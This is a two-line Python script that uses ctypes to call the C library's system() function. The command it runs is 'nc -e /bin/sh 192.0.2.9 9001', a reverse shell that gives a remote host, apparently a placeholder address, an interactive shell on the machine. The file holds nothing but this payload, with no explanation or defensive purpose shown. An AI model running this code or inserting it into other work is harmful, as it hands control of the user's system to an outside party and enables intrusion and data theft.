import ctypes
ctypes.CDLL(None).system(b"nc -e /bin/sh 192.0.2.9 9001")
